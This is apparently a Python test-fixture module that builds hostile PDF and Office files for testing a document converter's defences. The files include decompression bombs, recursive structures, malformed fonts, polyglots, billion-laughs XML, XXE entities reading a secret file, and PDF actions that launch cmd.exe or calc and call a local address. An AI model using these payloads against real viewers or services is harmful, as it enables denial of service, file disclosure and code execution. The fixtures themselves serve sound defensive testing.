"""Makes hostile files, all by hand: each bears a name, its bytes, and how it may end. Nothing here is anybody else's.

How it ends is "pages", or the code of a refusal; where the release of a library decides, several are named.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pymupdf
from PIL import Image, PngImagePlugin

from tests.documents import office_files, papers
from tests.documents.papers import raw_pdf

NOBODY = "127.0.0.1:9"  # where a test puts a server that listens
SECRET = "KHOÁ BÍ MẬT"
PAGE_BOX = b"[0 0 595 842]"
COURIER = b"<</Type/Font/Subtype/Type1/BaseFont/Courier>>"
WITH_FONT = b"<</Font<</F 4 0 R>>>>"
WORDS = b"BT /F 20 Tf 70 700 Td (To trinh) Tj ET"


@dataclass(frozen=True)
class Hostile:
    """`needs_office` where LibreOffice has to read it; `is_slow` where that takes more than a second or two."""

    name: str
    make: Callable[[str, str], bytes]
    ends: frozenset[str]
    needs_office: bool = False
    is_slow: bool = False

    def content(self, *, address: str = NOBODY, secret: str = "/nowhere/secret.txt") -> bytes:  # noqa: S107 - a path
        """The file. `address` is a host and port that nobody may ask, `secret` a file that nobody may read."""
        return self.make(address, secret)


SET: list[Hostile] = []


def hostile(
    *ends: str, needs_office: bool = False, is_slow: bool = False
) -> Callable[[Callable[..., bytes]], Callable[..., bytes]]:
    """Put what a function makes into the set; the function may ask for `address` and `secret`."""

    def note(make: Callable[..., bytes]) -> Callable[..., bytes]:
        wanted = make.__code__.co_varnames[: make.__code__.co_argcount]

        def made(address: str, secret: str) -> bytes:
            given = {"address": address, "secret": secret}
            return make(**{name: given[name] for name in wanted})

        SET.append(Hostile(make.__name__, made, frozenset(ends), needs_office, is_slow))
        return make

    return note


# -- PDF: what all of them are made of ---------------------------------------------------------------------------------


def packed(content: bytes, *, times: int = 1) -> bytes:
    """Pack what a stream holds, so many times over."""
    for _time in range(times):
        content = zlib.compress(content, 9)
    return content


def expanding(chunk: bytes, times: int, *, before: bytes = b"") -> bytes:
    """A packed stream of so many equal chunks, made in no time: a packed chunk is written again and again."""
    packer = zlib.compressobj(9)
    made = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(before)
    for _time in range(times):
        check = zlib.adler32(chunk, check)
    return made + first * times + b"\x03\x00" + struct.pack(">I", check)


MEGABYTE, BLANKS = bytes(1 << 20), b" " * (1 << 20)


def stream(content: bytes, words: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (words, len(content), content)


def one_page(contents: bytes = WORDS, *objects: bytes, resources: bytes = b"") -> bytes:
    """A page with a font F; `objects` get the numbers 5, 6, …"""
    return raw_pdf([contents], b"<</Font<</F 4 0 R>>%b>>" % resources, COURIER, *objects)


def objects(*rows: bytes, trailer: bytes = b"/Root 1 0 R", version: bytes = b"1.7") -> bytes:
    """A PDF of these objects, numbered from 1, as they are."""
    made, places = bytearray(b"%%PDF-%b\n" % version), []
    for number, row in enumerate(rows, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, row)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(rows) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(made) + b"trailer<</Size %d%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(rows) + 1, trailer, start)


def catalogued(words: bytes, *more: bytes, page: bytes = b"") -> bytes:
    """One ordinary page; `words` stand in the catalogue, `page` in the page. `more` get the numbers 6, 7, …"""
    return objects(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % words,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%b/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R%b>>" % (PAGE_BOX, page),
        stream(WORDS),
        COURIER,
        *more,
    )


def boxed(box: bytes, more: bytes = b"") -> bytes:
    return objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%b%b/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>" % (box, more),
        stream(WORDS),
        COURIER,
    )


# -- PDF: small files that unpack to large ones ------------------------------------------------------------------------


@hostile("pages", "too_slow", "too_much_memory", "unreadable")
def contents_of_half_a_gigabyte() -> bytes:
    return one_page(stream(expanding(BLANKS, 512), b"/Filter/FlateDecode"))


@hostile("pages", "too_much_memory", "unreadable", "too_slow", is_slow=True)
def contents_packed_twice_of_four_gigabytes() -> bytes:
    return one_page(stream(packed(expanding(BLANKS, 4096)), b"/Filter[/FlateDecode/FlateDecode]"))


@hostile("pages", "too_much_memory", "unreadable")
def a_chain_of_a_hundred_filters() -> bytes:
    content = packed(WORDS, times=100)
    return one_page(stream(content, b"/Filter[%b]" % (b"/FlateDecode" * 100)))


@hostile("pages", "broken", "unreadable", "too_much_memory")
def an_object_stream_that_unpacks_to_half_a_gigabyte() -> bytes:
    content = expanding(BLANKS, 512, before=b"7 0 <</Type/Annot>>")
    words = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    return catalogued(b"/Names 7 0 R", stream(content, words))


@hostile("broken", "too_much_memory", "too_slow", "pages")
def a_table_of_objects_that_unpacks_to_half_a_gigabyte() -> bytes:
    content = expanding(MEGABYTE, 512)
    words = b"/Type/XRef/W[1 4 2]/Size 76695844/Root 1 0 R/Filter/FlateDecode"
    made = one_page()
    table = b"9 0 obj\n" + stream(content, words) + b"\nendobj\n"
    return made + table + b"startxref\n%d\n%%%%EOF\n" % len(made)


@hostile("pages", "too_much_memory", "unreadable")
def a_picture_of_100_000_by_100_000() -> bytes:
    words = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    image = stream(expanding(MEGABYTE, 64), words + b"/Filter/FlateDecode")
    return one_page(b"q 595 0 0 842 0 0 cm /I Do Q", image, resources=b"/XObject<</I 5 0 R>>")


@hostile("pages", "too_much_memory", "unreadable", "broken")
def fax_and_jbig2_and_jpx_pictures_that_are_none() -> bytes:
    words = b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1/ColorSpace/DeviceGray"
    noise = random.Random(7).randbytes(4000)
    images = [
        stream(noise, words + b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 30000/Rows 30000>>"),
        stream(noise, words + b"/Filter/JBIG2Decode"),
        stream(noise, words + b"/Filter/JPXDecode"),
        stream(noise, words + b"/Filter/DCTDecode"),
    ]
    draw = b"".join(b"q 200 0 0 200 %d 100 cm /I%d Do Q " % (100 * place, place) for place in range(4))
    named = b"".join(b"/I%d %d 0 R" % (place, 5 + place) for place in range(4))
    return one_page(draw + WORDS, *images, resources=b"/XObject<<%b>>" % named)


@hostile("pages", "unreadable", "too_slow", is_slow=True)
def a_pattern_of_a_thousandth_of_a_point() -> bytes:
    words = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .001 .001]/XStep .001/YStep .001/Resources<<>>"
    )
    tile = stream(b"0 0 .001 .001 re f", words)
    return one_page(b"/Pattern cs /P scn 0 0 595 842 re f", tile, resources=b"/Pattern<</P 5 0 R>>")


@hostile("pages", "too_slow", "too_much_memory", "unreadable")
def a_million_lines_and_a_million_saved_states() -> bytes:
    return one_page(stream(expanding(b"q 0 0 m 595 842 l S " * 10_000, 100), b"/Filter/FlateDecode"))


# -- PDF: pages --------------------------------------------------------------------------------------------------------


@hostile("too_many_pages", "broken")
def a_million_pages() -> bytes:
    """A tree of which every leaf is the same page: a kilobyte."""
    hundred = [b" ".join([b"%d 0 R" % kid] * 100) for kid in (3, 4, 5)]
    return objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count 1000000>>" % hundred[0],
        b"<</Type/Pages/Kids[%b]/Count 10000/Parent 2 0 R>>" % hundred[1],
        b"<</Type/Pages/Kids[%b]/Count 100/Parent 3 0 R>>" % hundred[2],
        b"<</Type/Page/Parent 4 0 R/MediaBox%b>>" % PAGE_BOX,
    )


@hostile("too_many_pages")
def four_thousand_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + place) for place in range(4000))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox%b>>" % PAGE_BOX
    tree = b"<</Type/Pages/Kids[%b]/Count 4000>>" % kids
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * 4000)


@hostile("too_many_pages", "broken", "unreadable")
def a_count_of_two_thousand_million() -> bytes:
    return objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%b>>" % PAGE_BOX,
    )


@hostile("pages", "broken", "unreadable")
def a_count_that_is_too_high() -> bytes:
    return one_page().replace(b"/Count 1/", b"/Count 9/")


@hostile("pages", "broken")
def a_count_below_nothing() -> bytes:
    return one_page().replace(b"/Count 1/", b"/Count -7/")


@hostile("broken", "unreadable")
def pages_that_hang_from_themselves() -> bytes:
    return objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 5>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 5/Parent 3 0 R>>",
    )


@hostile("pages", "broken", "unreadable")
def a_page_that_is_its_own_parent() -> bytes:
    return objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>",
        stream(WORDS),
    )


@hostile("pages", "broken", "unreadable")
def a_tree_of_pages_ten_thousand_deep() -> bytes:
    depth = 10_000
    rows = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (place + 3, place + 1) for place in range(depth)]
    page = b"<</Type/Page/Parent %d 0 R/MediaBox%b>>" % (depth + 1, PAGE_BOX)
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", *rows, page)


@hostile("broken")
def no_page_at_all() -> bytes:
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")


# -- PDF: boxes --------------------------------------------------------------------------------------------------------


@hostile("pages")
def a_page_as_large_as_a_country() -> bytes:
    return boxed(b"[0 0 1e9 1e9]")


@hostile("pages", "unreadable")
def a_page_a_thousand_times_as_wide_as_high() -> bytes:
    return boxed(b"[0 0 100000 100]")


@hostile("pages", "unreadable")
def a_page_a_million_times_as_high_as_wide() -> bytes:
    return boxed(b"[0 0 1 1000000]")


@hostile("pages", "unreadable")
def a_page_smaller_than_an_atom() -> bytes:
    return boxed(b"[0 0 .0000001 .0000001]")


@hostile("pages")
def a_page_upside_down_and_below_nothing() -> bytes:
    return boxed(b"[-100 -200 -695 -1042]")


@hostile("pages", "unreadable")
def a_page_of_numbers_that_are_none() -> bytes:
    return boxed(b"[0 0 nan inf]", b"/Rotate nan/UserUnit inf")


@hostile("pages", "unreadable")
def a_page_of_numbers_beyond_all_numbers() -> bytes:
    return boxed(b"[-%b 0 %b 842]" % (b"9" * 400, b"9" * 400), b"/UserUnit 1%b" % (b"0" * 300))


@hostile("pages", "unreadable")
def a_unit_that_makes_a_page_of_a_light_year() -> bytes:
    return boxed(PAGE_BOX, b"/UserUnit 1000000000000000000000000000000")


@hostile("pages", "unreadable")
def a_unit_below_nothing_and_a_turn_of_45_degrees() -> bytes:
    return boxed(PAGE_BOX, b"/UserUnit -3/Rotate 45/CropBox[9000 9000 9001 9001]")


@hostile("pages", "unreadable")
def boxes_that_are_no_boxes() -> bytes:
    return boxed(b"[(a) /b null <<>>]", b"/CropBox 7/Rotate[90]")


@hostile("pages", "unreadable")
def text_that_stands_at_infinity() -> bytes:
    far = b"9" * 38
    return one_page(
        b"BT /F %b Tf 1e30 0 0 1e30 %b %b Tm (xa) Tj 1 0 0 1 70 700 Tm /F 20 Tf (gan) Tj ET" % (far, far, far)
    )


# -- PDF: nesting ------------------------------------------------------------------------------------------------------


@hostile("pages", "broken", "unreadable", "too_much_memory")
def arrays_a_million_deep() -> bytes:
    return catalogued(b"/Deep 6 0 R", b"[" * 1_000_000 + b"]" * 1_000_000)


@hostile("pages", "broken", "unreadable", "too_much_memory")
def dictionaries_a_million_deep_in_the_page() -> bytes:
    return catalogued(b"", page=b"/Deep " + b"<</A" * 300_000 + b" 1" + b">>" * 300_000)


@hostile("pages")
def a_form_that_draws_itself() -> bytes:
    form = stream(b"/X Do " + WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 5 0 R>>>>")
    return one_page(b"/X Do " + WORDS, form, resources=b"/XObject<</X 5 0 R>>")


@hostile("pages")
def two_forms_that_draw_each_other() -> bytes:
    words = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>"
    forms = [stream(b"/X Do /X Do", words % number) for number in (6, 5)]
    return one_page(b"/X Do " + WORDS, *forms, resources=b"/XObject<</X 5 0 R>>")


@hostile("pages", "unreadable")
def a_pattern_a_mask_and_a_letter_that_draw_themselves() -> bytes:
    box = b"/BBox[0 0 595 842]"
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/XStep 9/YStep 9%b/Resources<</Pattern<</P 5 0 R>>>>" % box,
    )
    mask = b"<</SMask<</S/Luminosity/G 7 0 R>>>>"
    group = stream(
        b"/G gs 0 0 99 99 re f",
        b"/Type/XObject/Subtype/Form%b/Group<</S/Transparency>>/Resources<</ExtGState<</G 6 0 R>>>>" % box,
    )
    letter = stream(b"9 0 d0 BT /T 9 Tf (a) Tj ET")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 8 0 R>>/Resources<</Font<</T 9 0 R>>>>>>"
    )
    draw = b"/Pattern cs /P scn 0 0 99 99 re f /G gs 0 0 99 99 re f BT /T 9 Tf 9 9 Td (aaa) Tj ET " + WORDS
    resources = b"/Pattern<</P 5 0 R>>/ExtGState<</G 6 0 R>>"
    made = one_page(draw, pattern, mask, group, letter, font, resources=resources)
    return made.replace(b"/Font<</F 4 0 R>>", b"/Font<</F 4 0 R/T 9 0 R>>")


@hostile("pages")
def an_outline_that_goes_round() -> bytes:
    return catalogued(
        b"/Outlines 6 0 R",
        b"<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 2>>",
        b"<</Title(mot)/Parent 6 0 R/Next 8 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
        b"<</Title(hai)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/Dest[3 0 R/Fit]>>",
    )


@hostile("pages", "too_much_memory")
def an_outline_fifty_thousand_deep() -> bytes:
    depth = 50_000
    rows = [
        b"<</Title(%d)/Parent %d 0 R/First %d 0 R/Last %d 0 R/Count 1/Dest[3 0 R/Fit]>>" % (n, n + 6, n + 8, n + 8)
        for n in range(depth)
    ]
    last = b"<</Title(x)/Parent %d 0 R/Dest[3 0 R/Fit]>>" % (depth + 6)
    return catalogued(b"/Outlines 6 0 R", b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>", *rows, last)


@hostile("pages", "too_slow", is_slow=True)
def an_outline_of_a_hundred_thousand_lines() -> bytes:
    count = 100_000
    rows = [b"<</Title(%d)/Parent 6 0 R/Next %d 0 R/Dest[3 0 R/Fit]>>" % (n, n + 8) for n in range(count - 1)]
    last = b"<</Title(x)/Parent 6 0 R>>"
    return catalogued(
        b"/Outlines 6 0 R", b"<</Type/Outlines/First 7 0 R/Last %d 0 R/Count 9>>" % (count + 6), *rows, last
    )


def tagged(*elements: bytes, parents: bytes = b"7 0 R") -> bytes:
    """One page whose words say that they are part 0 of what is object 7; `elements` get the numbers 7, 8, …"""
    return objects(
        b"<</Type/Catalog/Pages 2 0 R/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%b/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R/StructParents 0>>"
        % PAGE_BOX,
        stream(b"/P <</MCID 0>> BDC " + WORDS + b" EMC"),
        COURIER,
        b"<</Type/StructTreeRoot/K 7 0 R/ParentTree<</Nums[0 [%b]]>>>>" % parents,
        *elements,
    )


@hostile("pages")
def tags_that_go_round() -> bytes:
    return tagged(
        b"<</Type/StructElem/S/P/P 8 0 R/Pg 3 0 R/K[0 8 0 R]>>",
        b"<</Type/StructElem/S/Table/P 7 0 R/Pg 3 0 R/K 7 0 R>>",
    )


@hostile("pages", "unreadable", "too_much_memory", "too_slow")
def tags_fifty_thousand_deep() -> bytes:
    depth = 50_000
    rows = [b"<</Type/StructElem/S/Sect/P %d 0 R/Pg 3 0 R/K %d 0 R>>" % (n + 6, n + 8) for n in range(depth)]
    last = b"<</Type/StructElem/S/P/P %d 0 R/Pg 3 0 R/K 0>>" % (depth + 6)
    return tagged(*rows, last, parents=b"%d 0 R" % (depth + 7))


@hostile("pages")
def tags_that_are_anything_but_tags() -> bytes:
    return tagged(
        b"<</Type/StructElem/S(P)/P null/Pg 1 0 R/K[-1 99999999999 (x) [[]] 4 0 R]>>", parents=b"4 0 R 7 0 R 0"
    )


@hostile("pages")
def an_outline_of_letters_no_database_takes() -> bytes:
    """A zero, halves of pairs that stand alone, a line that runs backwards, and no letters at all."""
    titles = (b"FEFF00410000004200D00000", b"FEFFD800", b"FEFFDC000041", b"FEFF202E0041", b"FEFF", b"FFFE00D8")
    rows = [
        b"<</Title<%b>/Parent 6 0 R%b/Dest[3 0 R/Fit]>>" % (title, b"/Next %d 0 R" % (place + 8) if place < 5 else b"")
        for place, title in enumerate(titles)
    ]
    return catalogued(b"/Outlines 6 0 R", b"<</Type/Outlines/First 7 0 R/Last 12 0 R/Count 6>>", *rows)


@hostile("pages", "broken")
def tables_of_objects_that_go_round() -> bytes:
    made = one_page()
    start = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


@hostile("pages", "broken", "unreadable")
def references_that_go_round() -> bytes:
    return catalogued(b"/Names 6 0 R/OCProperties 6 0 R/AcroForm 6 0 R", b"7 0 R", b"6 0 R", page=b"/Annots 6 0 R")


@hostile("pages", "broken", "unreadable")
def a_stream_whose_length_is_itself() -> bytes:
    return one_page(b"<</Length 6 0 R>>stream\n%b\nendstream" % WORDS)


@hostile("pages")
def destinations_that_go_round() -> bytes:
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/Dest(a)>>]"
    return catalogued(b"/Names<</Dests 6 0 R>>", b"<</Kids[6 0 R]/Limits[(a)(z)]>>", page=link)


@hostile("pages", "too_slow", "unreadable", is_slow=True)
def a_hundred_thousand_annotations() -> bytes:
    row = b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/Border[0 0 1]/A<</S/URI/URI(http://127.0.0.1:9/a)>>>>"
    return catalogued(b"", page=b"/Annots[%b]" % (row * 100_000))


# -- PDF: what would like to act ---------------------------------------------------------------------------------------


@hostile("pages")
def scripts_and_programs_when_it_is_opened(address: str) -> bytes:
    at = address.encode()
    return catalogued(
        b"/OpenAction 6 0 R/AA<</WC 7 0 R/WS 8 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
        b"<</S/JavaScript/JS(app.launchURL\\('http://%b/js'\\);this.submitForm\\('http://%b/form'\\))/Next 7 0 R>>"
        % (at, at),
        b"<</S/Launch/F(/bin/touch)/Unix(touch launched)/Win<</F(cmd.exe)/P(/c calc)>>/Next 8 0 R>>",
        b"<</S/SubmitForm/F<</FS/URL/F(http://%b/submit)>>/Next 9 0 R>>" % at,
        b"<</S/GoToR/F(\\\\\\\\%b\\\\share\\\\a.pdf)/D[0/Fit]/Next 10 0 R>>" % at,
        b"<</S/ImportData/F(http://%b/fdf)>>" % at,
        page=b"/AA<</O 6 0 R/C 7 0 R>>",
    )


@hostile("pages")
def links_that_are_scripts_or_files(address: str) -> bytes:
    addresses = (
        *(
            b"javascript:alert\\(1\\)",
            b"JaVaScRiPt:alert\\(1\\)",
            b" javascript:alert\\(1\\)",
            b"java\\tscript:alert\\(1\\)",
        ),
        *(
            b"data:text/html,<script>1</script>",
            b"file:///etc/passwd",
            b"vbscript:a",
            b"http:\\000//a",
            b"\\\\\\\\a\\\\b",
        ),
        *(b"https://%b/\\377\\376\\000" % address.encode(), b"mailto:a@b", b"http://" + b"a" * 100_000),
    )
    row = b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(%b)>>>>"
    rest = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>"
    return catalogued(b"", page=b"/Annots[%b%b]" % (b"".join(row % found for found in addresses), rest))


@hostile("pages")
def files_films_and_forms_inside(address: str) -> bytes:
    at = address.encode()
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><event><script>xfa.host.gotoURL('http://%b/xfa')"
    return catalogued(
        b"/AcroForm<</XFA 6 0 R/Fields[7 0 R]/NeedAppearances true>>/Names<</EmbeddedFiles<</Names[(a.exe) 8 0 R]>>>>",
        stream(xfa % at),
        b"<</FT/Tx/T(a)/Subtype/Widget/Type/Annot/Rect[0 0 99 99]/V(x)/AA<</K<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>",
        b"<</Type/Filespec/F(../../../a.exe)/EF<</F 9 0 R>>>>",
        stream(b"MZ" + bytes(100), b"/Type/EmbeddedFile"),
        page=b"/Annots[7 0 R<</Type/Annot/Subtype/FileAttachment/Rect[9 9 99 99]/FS 8 0 R>>"
        b"<</Type/Annot/Subtype/RichMedia/Rect[9 9 99 99]/RichMediaContent<</Assets<</Names[(a) 8 0 R]>>>>>>"
        b"<</Type/Annot/Subtype/Movie/Rect[9 9 99 99]/Movie<</F(http://%b/film)>>>>]" % at,
    )


@hostile("pages", "unreadable")
def streams_that_lie_elsewhere(address: str, secret: str) -> bytes:
    here = b"/F(%b)/FFilter/FlateDecode" % secret.encode()
    there = b"/F<</FS/URL/F(http://%b/contents)>>" % address.encode()
    image = b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray"
    reference = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%b)/Page 0>>" % secret.encode()
    rows = (stream(b"", image + here), stream(b"", image + there), stream(WORDS, reference))
    draw = WORDS + b" /A Do /B Do /C Do"
    return one_page(draw, *rows, resources=b"/XObject<</A 5 0 R/B 6 0 R/C 7 0 R>>")


# -- PDF: letters ------------------------------------------------------------------------------------------------------


def with_font_file(content: bytes, kind: bytes = b"FontFile2") -> bytes:
    descriptor = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 9 9]/%b 6 0 R>>" % kind
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 5 0 R/FirstChar 0/LastChar 255/Widths[%b]>>" % (
        b"500 " * 256
    )
    return raw_pdf([WORDS], WITH_FONT, font, descriptor, stream(content, b"/Length1 %d" % len(content)))


@hostile("pages")
def a_font_of_noise() -> bytes:
    return with_font_file(b"\0\1\0\0" + random.Random(3).randbytes(20_000))


@hostile("pages")
def half_a_font() -> bytes:
    return with_font_file(papers.FONT.read_bytes()[:60_000])


@hostile("pages", "unreadable")
def a_font_whose_tables_are_bent() -> bytes:
    font, chance = bytearray(papers.FONT.read_bytes()[:200_000]), random.Random(5)
    for _time in range(3000):
        font[chance.randrange(300, len(font))] = chance.randrange(256)
    return with_font_file(bytes(font))


@hostile("pages", "unreadable")
def a_type_1_font_that_calls_itself() -> bytes:
    content = b"%!PS-AdobeFont-1.0: A\n/Subrs 1 array dup 0 3 RD \x8b\x0a\x0b NP\n" * 100 + b"eexec" + bytes(2000)
    return with_font_file(content, b"FontFile")


@hostile("pages", "unreadable")
def letters_that_stand_for_nothing() -> bytes:
    """Numbers of letters in a font that is not there, of which nobody says what they mean."""
    inside = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>"
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]>>"
    return raw_pdf([b"BT /F 20 Tf 70 700 Td <00010002D8000000FFFF> Tj ET"], WITH_FONT, font, inside)


@hostile("pages", "too_much_memory", "unreadable")
def a_map_of_letters_without_end() -> bytes:
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap /A usecmap 1 begincodespacerange <00> <FFFFFFFF> endcodespacerange "
        b"3 beginbfrange <00000000> <FFFFFFFF> <0041> <54> <54> <D800> <6F> <6F> <0000> endbfrange "
        b"1 beginbfchar <72> <%b> endbfchar endcmap" % (b"0041" * 20_000)
    )
    font = COURIER.replace(b">>", b"/ToUnicode 5 0 R>>")
    return raw_pdf([WORDS], WITH_FONT, font, stream(cmap, b"/CMapName/A/UseCMap 5 0 R"))


@hostile("pages")
def text_of_halves_of_pairs() -> bytes:
    """A map that gives letters no database takes: halves of pairs, and a zero."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange "
        b"4 beginbfchar <54> <D800> <6F> <0000> <74> <DC00DC00> <72> <D83D> endbfchar endcmap"
    )
    return raw_pdf([WORDS], WITH_FONT, COURIER.replace(b">>", b"/ToUnicode 5 0 R>>"), stream(cmap))


# -- PDF: what is half a file, two files, or locked --------------------------------------------------------------------


@hostile("broken")
def nothing_but_a_head() -> bytes:
    return b"%PDF-1.7"


@hostile("pages")
def a_web_page_that_is_a_pdf_as_well() -> bytes:
    return b"<html><script>alert(1)</script><!-- " + one_page() + b" --></html>"


@hostile("pages")
def an_archive_that_is_a_pdf_as_well() -> bytes:
    return one_page() + office_files.zipped({"a.exe": b"MZ"})


@hostile("pages", "broken")
def a_picture_that_is_a_pdf_as_well() -> bytes:
    head = office_files.picture("JPEG", (8, 8))
    return head[:2] + b"\xff\xfe\x00\x40" + one_page()[:62].ljust(62) + one_page() + head[2:]


@hostile("encrypted")
def locked_for_readers() -> bytes:
    return papers.encrypted_pdf()


@hostile("pages")
def locked_for_writers_only() -> bytes:
    return papers.pdf(encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="chu", permissions=0)


@hostile("broken", "encrypted", "pages", "unreadable")
def locked_by_nobody_knows_what() -> bytes:
    return catalogued(b"").replace(b"/Root 1 0 R", b"/Root 1 0 R/ID[<00><00>]/Encrypt<</Filter/Nobody/V 9/R 9>>")


@hostile("broken", "pages")
def a_thousand_versions_in_one_file() -> bytes:
    made = one_page()
    start = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    for _time in range(1000):
        place = len(made)
        made += b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            start,
            place,
        )
        start = place
    return made


def cut(content: bytes, percent: int) -> bytes:
    """The first so many hundredths of a file."""
    return content[: len(content) * percent // 100]


# -- Office files ------------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHTER = f'<!DOCTYPE d [<!ENTITY l0 "ha ha ha ha">{LAUGHS}]>'
LINE = "Dự toán ngân sách năm 2027"


def repacked(content: bytes, **changed: bytes) -> bytes:
    """An office file in which some parts are others; new ones come last."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        entries = {name: package.read(name) for name in package.namelist()}
    return office_files.zipped({**entries, **changed})


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


@hostile("pages", "not_converted", "too_slow", "too_much_memory", needs_office=True)
def a_text_that_laughs_a_thousand_million_times() -> bytes:
    made = office_files.docx(LINE)
    body = part(made, "word/document.xml").replace(LINE.encode(), b"&l9;")
    return repacked(made, **{"word/document.xml": LAUGHTER.encode() + body})


@hostile("pages", "not_converted", "too_slow", "too_much_memory", needs_office=True, is_slow=True)
def a_workbook_that_laughs_a_thousand_million_times() -> bytes:
    made = office_files.xlsx(LINE)
    names = "xl/worksheets/sheet1.xml"
    laughing = part(made, names).replace(LINE.encode(), b"&l9;")
    return repacked(made, **{names: LAUGHTER.encode() + laughing})


@hostile("broken")
def a_list_of_parts_that_laughs() -> bytes:
    listed = office_files.content_types(**{"word/document.xml": office_files.WORD})
    return repacked(office_files.docx(LINE), **{"[Content_Types].xml": f"{LAUGHTER}{listed}".encode()})


@hostile("broken")
def a_list_of_parts_that_laughs_in_two_bytes_a_letter() -> bytes:
    listed = office_files.content_types(**{"word/document.xml": office_files.WORD})
    whole = f'<?xml version="1.0" encoding="utf-16"?>{LAUGHTER}{listed.replace("</Types>", "&l9;</Types>")}'
    return repacked(office_files.docx(LINE), **{"[Content_Types].xml": whole.encode("utf-16")})


@hostile("pages", "not_converted", needs_office=True, is_slow=True)
def a_text_with_entities_from_elsewhere(address: str, secret: str) -> bytes:
    named = f'<!DOCTYPE d [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM "http://{address}/b">]>'
    made = office_files.docx(LINE)
    body = part(made, "word/document.xml").replace(LINE.encode(), b"x&a;y&b;z")
    return repacked(made, **{"word/document.xml": named.encode() + body})


@hostile("pages", "not_converted", needs_office=True)
